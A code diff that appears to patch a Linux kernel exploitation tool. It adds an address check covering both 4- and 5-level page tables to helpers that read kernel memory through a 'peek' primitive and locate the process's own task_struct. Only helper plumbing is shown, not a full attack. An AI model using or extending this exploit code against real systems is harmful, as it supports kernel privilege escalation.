@@ -37,7 +37,7 @@ const uint16_t offsets_blind[] = { EV_SPLICE, EV_SETNS, EV_BPF, EV_SETSOCKOPT, E
 bool region_read(struct hunt *h, struct region *r, uint64_t address, uint32_t n)
 {
 	*r = (struct region){ .address = address };
-	while (r->n < n && r->n < REGION_MAX) {
+	while (is_kernel(address) && r->n < n && r->n < REGION_MAX) {
 		uint32_t left = n - r->n, page = PEEK_MAX - (uint32_t)((address + r->n) & (PEEK_MAX - 1));
 
 		if (peek_read(&h->peek, address + r->n, r->b + r->n, left < page ? left : page) < 0)
@@ -74,11 +74,26 @@ uint16_t u16_at(const struct region *r, uint32_t at)
 	return v;
 }
 
+/* The kernel's half of the addresses begins here: with 4 and 5 levels of page tables, or 48 and 52 bits. */
+#if defined(__x86_64__)
+#define BASE_USUAL 0xffff800000000000ull
+#define BASE_LARGE 0xff00000000000000ull
+#else
+#define BASE_USUAL 0xffff000000000000ull
+#define BASE_LARGE 0xfff0000000000000ull
+#endif
+static uint64_t kernel_base = BASE_USUAL;
+
+bool is_kernel(uint64_t address)
+{
+	return address >= kernel_base && address < (uint64_t)-4096;
+}
+
 uint64_t pointer_at(const struct region *r, uint32_t at)
 {
 	uint64_t p = u64_at(r, at);
 
-	return p >= KERNEL_BASE && p < (uint64_t)-4096 && p % 8 == 0 ? p : 0;
+	return is_kernel(p) && p % 8 == 0 ? p : 0;
 }
 
 bool text_is(struct hunt *h, uint64_t address, const char *text)
@@ -86,7 +101,7 @@ bool text_is(struct hunt *h, uint64_t address, const char *text)
 	char there[256];
 	size_t n = strlen(text) + 1;
 
-	return address >= KERNEL_BASE && n <= sizeof(there) && peek_read(&h->peek, address, there, n) == 0 &&
+	return is_kernel(address) && n <= sizeof(there) && peek_read(&h->peek, address, there, n) == 0 &&
 	       memcmp(there, text, n) == 0;
 }
 
@@ -295,6 +310,8 @@ static __attribute__((noreturn)) void hunt_run(struct hunt *h)
 	h->task_size = slab_size("task_struct", REGION_MAX);
 	h->own = &own;
 	h->own_task = peek_task(&h->peek);
+	if (h->own_task < BASE_USUAL)
+		kernel_base = BASE_LARGE;
 	if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
 		_exit(1);
 	hunt_task(h);
